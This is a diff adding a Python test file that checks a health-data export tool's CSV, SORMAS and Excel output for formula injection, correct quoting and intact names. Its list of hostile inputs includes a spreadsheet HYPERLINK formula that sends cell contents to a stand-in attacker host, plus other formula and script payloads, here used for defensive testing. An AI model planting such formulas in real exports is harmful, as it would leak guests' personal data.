@@ -1,0 +1,105 @@
+"""Output that cannot hurt its reader: no formulas, no broken layout, names unchanged."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from health_export.decryption import COLUMNS
+from health_export.exports import (
+    SORMAS_FIELDS,
+    csv_cell,
+    neutralise,
+    rows_to_csv,
+    rows_to_sormas,
+    rows_to_xlsx,
+)
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
+    "+49 170 1234567",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    'Semi;colon, "quoted"\nnext line',
+    "O'Brien",
+    "Müller-Lüdenscheidt",
+    "李小龍",
+    "👩‍⚕️ Dr. Emoji",
+    "<script>alert(1)</script>",
+]
+
+
+def _row(text: str) -> list[str | int]:
+    return [1, 1, "Terrasse", "2026-11-20 10:00", "2026-11-20 12:00", "nein", 1, "Gastseite",
+            text, text, "", "", "", "", "", "", text]
+
+
+def _read_csv(data: bytes, separator: str) -> list[list[str]]:
+    text = data.decode("utf-8")
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator))
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+def test_csv_neutralises_formulas_and_keeps_every_cell_whole(separator: str) -> None:
+    data = rows_to_csv([_row(text) for text in HOSTILE], separator=separator)
+    assert data.startswith("\ufeff".encode())
+    parsed = _read_csv(data, separator)
+    assert parsed[0] == list(COLUMNS)
+    assert len(parsed) == 1 + len(HOSTILE)
+    for text, row in zip(HOSTILE, parsed[1:], strict=True):
+        assert len(row) == len(COLUMNS)
+        assert row[8] == neutralise(text)
+        assert not row[8].startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert parsed[1 + HOSTILE.index("O'Brien")][8] == "O'Brien"
+    assert parsed[1 + HOSTILE.index("李小龍")][8] == "李小龍"
+    assert parsed[1 + HOSTILE.index("+49 170 1234567")][8] == "'+49 170 1234567"
+
+
+def test_csv_quoting_follows_rfc_4180() -> None:
+    assert csv_cell('a "b"', ",") == '"a ""b"""'
+    assert csv_cell("a;b", ";") == '"a;b"'
+    assert csv_cell("a;b", ",") == "a;b"
+    assert csv_cell("line\nbreak", ",") == '"line\nbreak"'
+    assert csv_cell(7, ",") == "7"
+    assert rows_to_csv([], separator=";").endswith(b"Notiz\r\n")
+
+
+def test_sormas_has_entity_and_field_rows_and_no_bom() -> None:
+    row = ["=Ada", "Lovelace", "", "Weg", "1", "10115", "Berlin", "+49 1", "a@b.de", "Café, Terrasse: x - y"]
+    data = rows_to_sormas([row], separator=";")
+    assert not data.startswith("\ufeff".encode())
+    parsed = _read_csv(data, ";")
+    assert parsed[0] == ["EventParticipant"] * len(SORMAS_FIELDS)
+    assert parsed[1] == list(SORMAS_FIELDS)
+    assert parsed[2][0] == "'=Ada" and parsed[2][7] == "'+49 1"
+    assert parsed[2][9] == "Café, Terrasse: x - y"
+
+
+def test_xlsx_cells_are_strings_never_formulas() -> None:
+    data = rows_to_xlsx([_row(text) for text in [*HOSTILE, "bell\x07char"]])
+    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = load_workbook(io.BytesIO(data)).active
+    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert values[0] == list(COLUMNS)
+    for text, row in zip(HOSTILE, values[1:], strict=False):
+        # No apostrophe: a string cell is never evaluated. CR reads as LF in any XML.
+        assert row[8] == text.replace("\r", "\n")
+    assert values[-1][8] == "bell\ufffdchar"
+    assert values[1][0] == 1  # numbers stay numbers
+
+
+@settings(max_examples=50, deadline=None)
+@given(st.lists(st.text(min_size=0, max_size=30), min_size=1, max_size=5), st.sampled_from([",", ";", "\t"]))
+def test_any_guest_text_round_trips_through_csv(texts: list[str], separator: str) -> None:
+    rows = [_row(text) for text in texts]
+    parsed = _read_csv(rows_to_csv(rows, separator=separator), separator)
+    assert [row[8] for row in parsed[1:]] == [neutralise(text) for text in texts]
